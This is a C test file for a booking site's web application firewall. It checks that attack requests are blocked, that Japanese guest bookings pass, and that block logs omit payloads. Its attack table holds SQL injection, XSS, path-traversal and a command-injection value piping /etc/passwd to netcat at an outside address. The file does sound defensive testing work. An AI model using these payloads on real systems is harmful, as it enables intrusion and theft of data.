/* The house's own configuration with its rules, around CRS and alone: attacks are stopped, Japanese
 * bookings pass, the provider's notifications are left to payd. */
#include "front.h"

#include <unistd.h>

#define FORM "Content-Type: application/x-www-form-urlencoded\r\n"
#define BROWSER                                                                                    \
    "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html\r\nAccept-Language: ja\r\n"

static front_t front;

typedef struct ask {
    const char *method, *target, *head, *body;
    int status;
} ask_t;

static const ask_t ATTACKS[] = {
    {"GET", "/tours?q=1%27%20UNION%20SELECT%20name,pass%20FROM%20users--", "", "", 403},
    {"GET", "/tours?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "", "", 403},
    {"GET", "/tours?file=../../../../etc/passwd", "", "", 403},
    {"POST", "/lookup", FORM, "number=1&mail=a';cat%20/etc/passwd|nc%20192.0.2.1%204444", 403},
    {"POST", "/lookup", FORM, "number=1%27%20or%20%271%27=%271&mail=a", 403},
    {"POST", "/lookup", "Content-Type: application/json\r\n",
     "{\"q\":\"1' UNION SELECT 1,2,3 FROM users--\"}", 403},
    {"POST", "/lookup", FORM, "number=1&email=..%2F..%2F..%2Fetc%2Fpasswd%40example.jp", 403},
    {"GET", "/", "Cookie: lang=ja; x=<img src=x onerror=alert(1)>\r\n", "", 403},
};

static const ask_t GUESTS[] = {
    {"GET", "/", "", "", 200},
    {"GET", "/tours?q=%E6%97%A5%E5%85%89+%E7%B4%85%E8%91%89&place=kanto", "", "", 200},
    {"POST", "/travellers", FORM,
     "name=%E5%B1%B1%E7%94%B0+%E5%A4%AA%E9%83%8E&kana=%E3%83%A4%E3%83%9E%E3%83%80+%E3%82%BF%E3%83%"
     "AD%E3%82%A6"
     "&address=%E6%9D%B1%E4%BA%AC%E9%83%BD%E5%8D%83%E4%BB%A3%E7%94%B0%E5%8C%BA%E5%A4%96%E7%A5%9E%"
     "E7%94%B01-2-3"
     "&tel=03-1234-5678&mail=taro%40example.com"
     "&note=%E3%82%A2%E3%83%AC%E3%83%AB%E3%82%AE%E3%83%BC%EF%BC%88%E3%81%9D%E3%81%B0%E3%83%BB%E5%"
     "8D%B5%EF%BC%89%E3%81%8C%E3%81%82%E3%82%8A%E3%81%BE%E3%81%99%E3%80%82",
     200},
    {"POST", "/travellers", FORM,
     "name=O%27Brien&note=window+seat+%26+no+nuts%2C+please%21+It%27s+our+10th+anniversary", 200},
    {"POST", "/lookup", FORM, "number=1&email=taro.profile%40example.jp", 200},
    {"POST", "/lookup", FORM, "number=1&email=ken.environment.sh%40mail.example.com", 200},
    {"GET", "/pay/return/bcdfghjk?session_id=abc123", "Referer: https://psp.example/pay\r\n", "",
     200},
    /* judged by payd behind its signature, whatever stands in it */
    {"POST", "/pay/notify/komoju", "Content-Type: application/json\r\n",
     "{\"note\":\"1' or '1'='1' -- <script>\"}", 200},
};

static void ask_all(const ask_t *rows, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        char head[512];
        snprintf(head, sizeof head, BROWSER "%s", rows[i].head);
        answer_t a =
            front_ask(&front, rows[i].method, rows[i].target, head, slice_cstr_in(rows[i].body));
        if (a.status != rows[i].status) {
            fail_msg("%s %s: %d", rows[i].method, rows[i].target, a.status);
        }
        answer_free(&a);
    }
}

static void run(front_rules_t rules)
{
    char facts[1200];
    front_init_rules(&front, 1, NULL, rules);
    front_rooms(&front);
    front_ledgerd(&front);
    front_nginx(&front);
    ask_all(GUESTS, BASE_COUNT(GUESTS));
    ask_all(ATTACKS, BASE_COUNT(ATTACKS));
    answer_t a = front_ask(&front, "GET", ATTACKS[0].target, BROWSER, SLICE_EMPTY);
    assert_true(answer_has(&a, "安全のため、この操作は受け付けできませんでした"));
    front_recorded(&front, answer_id(&a), LEDGER_RULE_BLOCKED, facts, sizeof facts);
    assert_non_null(
        strstr(facts, rules == FRONT_CRS ? "rule=949110&phase=2" : "rule=20023&phase=2"));
    assert_non_null(strstr(facts, "&score="));
    front_recorded(&front, answer_id(&a), LEDGER_RULE_MATCHED, facts, sizeof facts);
    assert_non_null(strstr(facts, "9990100:ARGS.q:"));
    assert_null(strstr(facts, "UNION"));
    answer_free(&a);
    a = front_ask(&front, "GET", "/?n=4111111111111111", BROWSER,
                  SLICE_EMPTY); /* the gate is there */
    assert_int_equal(a.status, 422);
    answer_free(&a);
    assert_false(front_file_has(front.log, "UNION"));
    front_deinit(&front);
}

static void with_crs(void **state)
{
    if (!front_has_crs()) {
        skip();
    }
    run(FRONT_CRS);
}

static void alone(void **state)
{
    run(FRONT_OWN_RULES);
}

int main(int argc, char **argv)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(with_crs), cmocka_unit_test(alone)};
    if (!front_programs(argc, argv)) {
        return 77;
    }
    return cmocka_run_group_tests(tests, NULL, NULL);
}
